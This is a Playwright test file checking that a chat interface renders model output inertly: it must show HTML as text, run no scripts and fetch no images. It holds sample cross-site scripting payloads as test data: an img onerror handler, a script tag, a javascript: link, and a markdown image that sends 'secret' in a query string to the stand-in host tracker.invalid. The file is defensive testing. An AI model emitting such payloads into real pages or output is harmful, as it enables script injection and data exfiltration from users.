import { expect, test } from '@playwright/test';
import { answerText, lastAssistant, MODELS, newSession, scenario, send, waitForRunEnd } from './helpers';

/** Model output is untrusted: HTML in it shows as text, scripts never run, images are not fetched. */
test('HTML, scripts and images in model output are rendered inert', async ({ page }) => {
  const fetched: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('tracker.invalid')) fetched.push(request.url());
  });
  await newSession(page, MODELS.chat);
  const hostile = [
    'Hello <img src="http://tracker.invalid/pixel.png" onerror="window.__pwned = 1"> there.',
    '<script>window.__pwned = 2</script>',
    '![leak](http://tracker.invalid/leak.png?q=secret)',
    '<a href="javascript:window.__pwned=3">click</a>',
  ].join(' ');
  await send(page, `Be hostile ${scenario('text', { text: hostile })}`);
  await waitForRunEnd(page, 'completed');

  const answer = answerText(lastAssistant(page));
  await expect(answer).toContainText('Hello');
  await expect(answer.locator('img, script, iframe, a[href^="javascript:"]')).toHaveCount(0);
  // The tags are visible as text (markdown still applies inside them, e.g. `__x__` is bold).
  await expect(answer).toContainText('<img src="http://tracker.invalid/pixel.png"');
  await expect(answer).toContainText('<script>window.');
  await expect(answer).toContainText('leak(http://tracker.invalid/leak.png?q=secret)');
  expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
  expect(fetched).toEqual([]);
});
